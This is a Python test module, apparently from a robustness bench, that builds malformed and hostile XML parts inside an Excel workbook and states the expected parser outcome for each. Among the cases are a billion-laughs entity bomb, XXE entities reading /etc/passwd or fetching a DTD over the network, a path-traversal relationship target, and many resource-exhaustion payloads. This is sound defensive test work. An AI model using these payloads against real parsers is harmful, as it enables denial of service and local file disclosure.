"""Kinds that lie in the XML of a part."""

from __future__ import annotations

from bench.hostile.kinds import EITHER, READ, Kind
from bench.hostile.school_book import (
    ARROWS,
    BOOK,
    BOOK_ARROWS,
    FINDINGS_TABLE,
    MAIN,
    OFFICE,
    PURCHASES,
    PURCHASES_TABLE,
    STRINGS,
    STYLES,
    TYPES,
    changed,
    packed,
    parts,
    strings,
    with_part,
    with_rows,
    with_strings,
)

MEBIBYTE = 1 << 20
DAMAGED, DOCTYPE = "内容损坏", "含有文档类型声明（DOCTYPE）"
SHEET_ARROWS = "xl/worksheets/_rels/sheet10.xml.rels"
_MISTAKE = '<c r="A15" t="inlineStr"><is><t>?</t></is></c>'
_LAUGHS = "<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))


def before_root(part: str, text: str) -> bytes:
    """The book with something put before the root of a part."""
    head, _, rest = parts()[part].decode().rpartition("?>\n")
    return with_part(part, (f"{head}?>\n" if head else "").encode() + text.encode() + rest.encode())


def encoded(part: str, encoding: str, declared: str | None = None, mark: bytes = b"") -> bytes:
    """The book with a part in another encoding."""
    text = parts()[part].decode()
    text = f'<?xml version="1.0" encoding="{declared or encoding}"?>' + text.partition("?>")[2]
    return with_part(part, mark + text.encode(encoding))


def below(inside: str, part: str = PURCHASES) -> bytes:
    """The book with something put below the rows of a sheet."""
    return changed(part, "</sheetData>", f"</sheetData>{inside}")


def above(inside: str) -> bytes:
    """The book with something put above the rows of a sheet."""
    return changed(PURCHASES, "<sheetData>", f"{inside}<sheetData>")


def cell(inside: str) -> bytes:
    """The book with one more row that has one cell."""
    return with_rows(f'<row r="15">{inside}</row>')


def names(inside: str) -> bytes:
    """The book with more defined names."""
    return changed(BOOK, "</definedNames>", f"{inside}</definedNames>")


def counted(text: str, number: int) -> str:
    """The text as often as stated, ``#`` standing for 1, 2, 3 and so on."""
    return "".join(text.replace("#", str(place)) for place in range(1, number + 1))


def prefixed() -> bytes:
    """The book with every element of a sheet under a prefix of many letters."""
    text = (
        parts()[PURCHASES]
        .decode()
        .partition("?>")[2]
        .replace("</", "\0")
        .replace("<", "<ab.c-d:")
        .replace("\0", "</ab.c-d:")
        .replace("xmlns=", "xmlns:ab.c-d=")
    )
    return with_part(PURCHASES, text.encode())


def chained(cells: str) -> bytes:
    """The book with a calculation chain."""
    found = parts()
    found[BOOK_ARROWS] = found[BOOK_ARROWS].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdChain" Type="{OFFICE}/calcChain" Target="calcChain.xml"/></Relationships>'.encode(),
    )
    found["xl/calcChain.xml"] = f'<calcChain xmlns="{MAIN}">{cells}</calcChain>'.encode()
    return packed(found, {"xl/calcChain.xml"})


def typed_often() -> bytes:
    """The book whose content types name the calculation chain very often."""
    found = parts()
    found[BOOK_ARROWS] = found[BOOK_ARROWS].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdChain" Type="{OFFICE}/calcChain" Target="calcChain.xml"/></Relationships>'.encode(),
    )
    found["xl/calcChain.xml"] = f'<calcChain xmlns="{MAIN}"/>'.encode()
    found[TYPES] = found[TYPES].replace(
        b"</Types>", b'<Override PartName="/xl/calcChain.xml" ContentType="a"/>' * 50_000 + b"</Types>"
    )
    return packed(found, {TYPES})


def sharing_rows() -> bytes:
    """Two sheets of the workbook are one part."""
    return changed(BOOK_ARROWS, "worksheets/sheet11.xml", "worksheets/sheet10.xml")


XML_KINDS = (
    Kind("xml: a billion laughs", lambda: with_strings(f"<!DOCTYPE sst [{_LAUGHS}]><sst xmlns='{MAIN}'><si><t>&a11;</t></si></sst>".encode()), DOCTYPE, attack=True),
    Kind("xml: quadratic entities", lambda: with_strings(f"<!DOCTYPE sst [<!ENTITY a '{'a' * 100_000}'>]><sst xmlns='{MAIN}'><si><t>{'&a;' * 10_000}</t></si></sst>".encode()), DOCTYPE, attack=True),
    Kind("xml: an entity from a file", lambda: before_root(BOOK, '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), DOCTYPE),
    Kind("xml: a parameter entity from the network", lambda: before_root(PURCHASES, '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd">%x;]>'), DOCTYPE),
    Kind("xml: a document type in styles nobody reads", lambda: before_root(STYLES, "<!DOCTYPE a>"), DOCTYPE),
    Kind("xml: a document type in relationships", lambda: before_root("_rels/.rels", "<!DOCTYPE a>"), DOCTYPE),
    Kind("xml: a document type in content types", lambda: before_root(TYPES, "<!DOCTYPE a>"), DOCTYPE),
    Kind("xml: a document type in a table", lambda: before_root(PURCHASES_TABLE, "<!DOCTYPE a>"), DOCTYPE),
    Kind("xml: a document type behind a false root", lambda: before_root(STYLES, "<!-- <a> --><!DOCTYPE a>"), DOCTYPE),
    Kind("xml: a document type behind 60,000 blanks", lambda: before_root(STYLES, " " * 60_000 + "<!DOCTYPE a>"), DOCTYPE),
    Kind("xml: no root within 64 KiB", lambda: before_root(STYLES, " " * 70_000), "开头异常"),
    Kind("xml: a document type in UTF-16", lambda: with_part(STYLES, "<!DOCTYPE a []><a/>".encode("utf-16")), DOCTYPE),
    Kind("xml: a document type in UTF-7", lambda: with_part(BOOK, b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a+AD4-'), EITHER),
    Kind("xml: nested two million deep, in a sheet", lambda: cell("<a>" * 2_000_000 + "</a>" * 2_000_000), DAMAGED, attack=True),
    Kind("xml: nested two million deep, in strings", lambda: strings("<a>" * 2_000_000 + "</a>" * 2_000_000), DAMAGED, attack=True),
    Kind("xml: opened five million times, never closed", lambda: with_part(BOOK, b"<a>" * 5_000_000), DAMAGED, attack=True),
    Kind("xml: nested 100,000 deep, in relationships", lambda: with_part(SHEET_ARROWS, b"<a>" * 100_000 + b"</a>" * 100_000), "找不到表 采购验收"),
    Kind("xml: formulas in formulas, 100,000 deep", lambda: cell('<c r="A15">' + "<f>" * 100_000 + "<c></c>" + "</f>" * 100_000 + "</c>"), EITHER, attack=True),
    Kind("xml: cells in cells, 100,000 deep", lambda: cell("<c>" * 100_000 + "</c>" * 100_000), EITHER, attack=True),
    Kind("xml: rows in the text of a cell", lambda: cell('<c r="A15" t="inlineStr"><is>' + counted('<row r="#"/>', 3_000) + "</is></c>"), EITHER),
    Kind("xml: rows in rows", lambda: cell('<row r="16"><c r="A16"/></row>'), DAMAGED),
    Kind("xml: half a million attributes", lambda: cell('<c r="A15"' + counted(' a#="1"', 500_000) + "/>"), EITHER, attack=True),
    Kind("xml: an attribute of 50 MB", lambda: cell('<c r="A15" a="' + "x" * 50_000_000 + '"/>'), EITHER, attack=True),
    Kind("xml: a name of 10 MB", lambda: cell(f"<{'a' * 10_000_000}/>"), DAMAGED, attack=True),
    Kind("xml: a tag of 40 MB of blanks", lambda: cell('<c r="A15"' + " " * 40_000_000 + "/>"), READ, attack=True),
    Kind("xml: 40 MB of blanks before a cell", lambda: cell(" " * 40_000_000 + '<c r="A15"/>'), READ, attack=True),
    Kind("xml: a row's tag of 40 MB of blanks", lambda: with_rows(f'<row r="15"{" " * 40_000_000}>{_MISTAKE}</row>'), READ, attack=True),
    Kind("xml: a table's tag of 40 MB of blanks", lambda: changed(FINDINGS_TABLE, "<table ", f"<table {' ' * 40_000_000}"), READ, attack=True),
    Kind("xml: an attribute without a value, 2 MB long", lambda: cell(f"<c {'a' * 2_000_000}/>"), DAMAGED, attack=True),
    Kind("xml: a row's attribute without a value, 2 MB long", lambda: with_rows(f"<row {'a' * 2_000_000}/>"), DAMAGED, attack=True),
    Kind("xml: an attribute twice", lambda: cell('<c r="A15" r="B15"/>'), DAMAGED),
    Kind("xml: an attribute without quotes", lambda: cell("<c r=A15/>"), DAMAGED),
    Kind("xml: 20,000 prefixes for the one namespace", lambda: above(counted(f'<a xmlns:p#="{MAIN}"/>', 20_000)), "太多名字空间", attack=True),
    Kind("xml: 300,000 namespaces", lambda: above(counted('<a xmlns:p#="urn:#"/>', 300_000)), READ, attack=True),
    Kind("xml: a string of nothing but xmlns:", lambda: strings(f"<si><t>{'xmlns:' * 300_000}</t></si>"), READ, attack=True),
    Kind("xml: a million empty phonetic guides", lambda: strings(f"<si><t>a</t>{'<rPh />' * 1_000_000}</si>"), READ, attack=True),
    Kind("xml: five million strings", lambda: strings("<si/>" * 5_000_000), "的字符串超过 4000000 个", attack=True),
    Kind("xml: a string of 60 MB", lambda: strings(f"<si><t>{'a' * 60_000_000}</t></si>"), "有一段文字长达", attack=True),
    Kind("xml: 15 MB of text with one character beyond 16 bits", lambda: strings(f"<si><t>{'a' * 15_000_000}\U0001f37a</t></si>"), READ, attack=True),
    Kind("xml: strings not closed", lambda: strings("<si><t>" * 100_000), DAMAGED, attack=True),
    Kind("xml: strings in strings", lambda: strings("<si>" * 200_000 + "</si>" * 200_000), EITHER, attack=True),
    Kind("xml: comments never closed", lambda: below("<!--" * 500_000), DAMAGED, attack=True),
    Kind("xml: a million comments", lambda: below("<!---->" * 1_100_000), DAMAGED, attack=True),
    Kind("xml: character sections never closed", lambda: cell("<![CDATA[" * 300_000), DAMAGED, attack=True),
    Kind("xml: comments among the rows", lambda: cell('<!-- <c r="B15"/> --><c r="A15"/><!-- </row> -->'), READ),
    Kind("xml: character sections in cells", lambda: cell('<c r="A15" t="inlineStr"><is><t><![CDATA[<row r="9"><c>]]></t></is></c>'), READ),
    Kind("xml: instructions among the rows", lambda: cell('<?x <c r="B15"> ?><c r="A15"/>'), READ),
    Kind("xml: a sheet in UTF-16", lambda: encoded(PURCHASES, "utf-16"), READ),
    Kind("xml: a sheet in UTF-16 without a mark", lambda: encoded(PURCHASES, "utf-16-be", "UTF-16"), READ),
    Kind("xml: the workbook part in GBK", lambda: encoded(BOOK, "gbk"), READ),
    Kind("xml: a sheet in GB18030", lambda: encoded(PURCHASES, "gb18030"), READ),
    Kind("xml: a byte-order mark", lambda: encoded(PURCHASES, "utf-8", mark=b"\xef\xbb\xbf"), READ),
    Kind("xml: UTF-16 stated of UTF-8", lambda: encoded(PURCHASES, "utf-8", "UTF-16"), EITHER),
    Kind("xml: an encoding nobody knows", lambda: encoded(PURCHASES, "utf-8", "x-klingon"), DAMAGED),
    Kind("xml: 5 MB of punycode", lambda: with_part(PURCHASES, b'<?xml version="1.0" encoding="punycode"?><a>-' + b"a" * 5_000_000), DAMAGED, attack=True),
    Kind("xml: UTF-32", lambda: encoded(PURCHASES, "utf-32"), EITHER),
    Kind("xml: bytes that are no UTF-8", lambda: with_part(PURCHASES, parts()[PURCHASES].replace("大米".encode(), b"\xc3\x28\xff")), EITHER),
    Kind("xml: a zero in the text", lambda: cell('<c r="A15" t="str"><v>a\0b</v></c>'), EITHER),
    Kind("xml: a control character by number", lambda: cell('<c r="A15" t="str"><v>a&#1;b</v></c>'), EITHER),
    Kind("xml: a character that is none", lambda: cell('<c r="A15" t="str"><v>&#xFFFF;&#xD800;&#99999999999;</v></c>'), EITHER),
    Kind("xml: an entity nobody declared", lambda: cell('<c r="A15" t="str"><v>&lol;</v></c>'), EITHER),
    Kind("xml: a prefix on every element", prefixed, READ),
    Kind("xml: another namespace", lambda: changed(PURCHASES, MAIN, "urn:another"), EITHER),
    Kind("xml: the strict namespace", lambda: changed(PURCHASES, MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main"), READ),
    Kind("xml: a sheet without rows", lambda: with_part(PURCHASES, f'<worksheet xmlns="{MAIN}"><sheetFormatPr/></worksheet>'.encode()), EITHER),
    Kind("xml: a sheet's data twice", lambda: below("<sheetData><row r='99'><c r='A99'/></row></sheetData>"), EITHER),
    Kind("xml: sheetData said a million times", lambda: below(f"<a>{'sheetData' * 1_000_000}</a>"), EITHER, attack=True),
    Kind("xml: rows that are text", lambda: with_rows("row r=1 row r=2"), DAMAGED),
    Kind("xml: cells outside rows", lambda: with_rows('<c r="A15"/>'), DAMAGED),
    Kind("xml: rows without an end", lambda: with_rows('<row r="15">' * 1_000), DAMAGED),
    Kind("xml: a sheet cut short", lambda: with_part(PURCHASES, parts()[PURCHASES][:5_000]), DAMAGED),
    Kind("xml: something after the end", lambda: with_part(PURCHASES, parts()[PURCHASES] + b"<a/>"), DAMAGED),
    Kind("xml: an empty sheet part", lambda: with_part(PURCHASES, b""), DAMAGED),
    Kind("xml: blanks for a workbook part", lambda: with_part(BOOK, b"   "), DAMAGED),
    Kind("xml: noise for a sheet", lambda: with_part(PURCHASES, bytes(range(256)) * 40), DAMAGED),
    Kind("xml: noise for content types", lambda: with_part(TYPES, b"\xff" * 999), EITHER),
    Kind("xml: a letter for a workbook part", lambda: with_part(BOOK, b'<w:document xmlns:w="urn:w"/>'), "不是 Excel 工作簿"),
    Kind("xml: a column up to four billion", lambda: above('<cols><col min="1" max="4000000000" style="1"/></cols>'), EITHER, attack=True),
    Kind("xml: a million columns", lambda: above("<cols>" + '<col min="1" max="16384" style="1"/>' * 1_000_000 + "</cols>"), EITHER, attack=True),
    Kind("xml: 250,000 merged ranges", lambda: below("<mergeCells>" + counted('<mergeCell ref="W#:X#"/>', 250_001) + "</mergeCells>"), "的合并单元格超过", attack=True),
    Kind("xml: 100,000 merged ranges over the whole sheet", lambda: below("<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 100_000 + "</mergeCells>"), READ, attack=True),
    Kind("xml: a selection of a million ranges", lambda: below('<conditionalFormatting sqref="' + "A1:XFD1048576 " * 1_000_000 + '"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>'), READ, attack=True),
    Kind("xml: 300,000 drop-downs", lambda: below("<dataValidations>" + '<dataValidation sqref="A1"/>' * 300_000 + "</dataValidations>"), READ, attack=True),
    Kind("xml: 300,000 links", lambda: with_part(SHEET_ARROWS, (f'<Relationships xmlns="{ARROWS}">' + counted('<Relationship Id="a#" Type="x/table" Target="t"/>', 300_000) + "</Relationships>").encode()), "的链接超过", attack=True),
    Kind("xml: 300,000 names", lambda: names(counted('<definedName name="n#">首页!$A$1</definedName>', 300_000)), "的名称超过", attack=True),
    Kind("xml: a name of five million quotes", lambda: names('<definedName name="n">' + "'" * 5_000_000 + "!$A$1</definedName>"), READ, attack=True),
    Kind("xml: a name's formula of 20 MB", lambda: names('<definedName name="n">' + "A1+" * 7_000_000 + "1</definedName>"), READ, attack=True),
    Kind("xml: a million sort conditions", lambda: changed(FINDINGS_TABLE, "</table>", '<sortState ref="A3:J3">' + '<sortCondition ref="A3:A3"/>' * 1_000_000 + "</sortState></table>"), EITHER, attack=True),
    Kind("xml: 50,000 table columns", lambda: changed(PURCHASES_TABLE, "</tableColumns>", '<tableColumn id="1" name="a"/>' * 50_000 + "</tableColumns>"), "的列超过 16384 个", attack=True),
    Kind("xml: a calculation chain of half a million cells", lambda: chained('<c r="A1" i="1"/>' * 500_000), READ, attack=True),
    Kind("xml: a calculation chain named 50,000 times", typed_often, EITHER, attack=True),
    Kind("xml: styles of 60 MB", lambda: with_part(STYLES, f"<styleSheet xmlns='{MAIN}'><fonts>{'<font/>' * 9_000_000}</fonts></styleSheet>".encode()), READ, attack=True),
    Kind("xml: 201 sheets", lambda: changed(BOOK, "</sheets>", counted(f'<sheet name="n#" sheetId="#" r:id="x" xmlns:r="{OFFICE}"/>', 201) + "</sheets>"), "张工作表，超过 200 张", attack=True),
    Kind("xml: a million sheets", lambda: changed(BOOK, "</sheets>", '<sheet name="n" sheetId="1"/>' * 1_000_000 + "</sheets>"), "张工作表，超过 200 张", attack=True),
    Kind("xml: a sheet's name of a megabyte", lambda: changed(BOOK, 'name="采购验收"', 'name="' + "长" * 350_000 + '"'), DAMAGED),
    Kind("xml: relationships in a circle", lambda: with_part(BOOK_ARROWS, f'<Relationships xmlns="{ARROWS}"><Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="workbook.xml"/></Relationships>'.encode()), EITHER),
    Kind("xml: a sheet that is its own table", lambda: changed(SHEET_ARROWS, "/xl/tables/table9.xml", "/xl/worksheets/sheet10.xml"), DAMAGED),
    Kind("xml: two sheets of one part", sharing_rows, EITHER),
    Kind("xml: one table on two sheets", lambda: changed("xl/worksheets/_rels/sheet11.xml.rels", "/xl/tables/table10.xml", "/xl/tables/table9.xml"), "找不到表 出库"),
    Kind("xml: a sheet that lies outside", lambda: changed(BOOK_ARROWS, "worksheets/sheet10.xml", "../../../../etc/passwd"), EITHER),
    Kind("xml: a sheet on the network", lambda: changed(BOOK_ARROWS, 'Id="rId10"', 'TargetMode="External" Id="rId10"'), EITHER),
    Kind("xml: a table that is not there", lambda: changed(SHEET_ARROWS, "table9.xml", "table99.xml"), "缺少部件"),
    Kind("xml: strings that are not there", lambda: changed(BOOK_ARROWS, "</Relationships>", f'<Relationship Id="rIdS" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'), "缺少部件"),
    Kind("xml: strings that are the workbook", lambda: changed(BOOK_ARROWS, "</Relationships>", f'<Relationship Id="rIdS" Type="{OFFICE}/sharedStrings" Target="workbook.xml"/></Relationships>'), EITHER),
    Kind("xml: a target of ten million steps", lambda: changed(SHEET_ARROWS, "/xl/tables/table9.xml", "/xl/" + "a/../" * 2_000_000 + "tables/table9.xml"), READ, attack=True),
    Kind("xml: strings under another part's name", lambda: with_part(STRINGS, b"<x/>"), READ),
)  # fmt: skip
"""Each with what must come of it."""
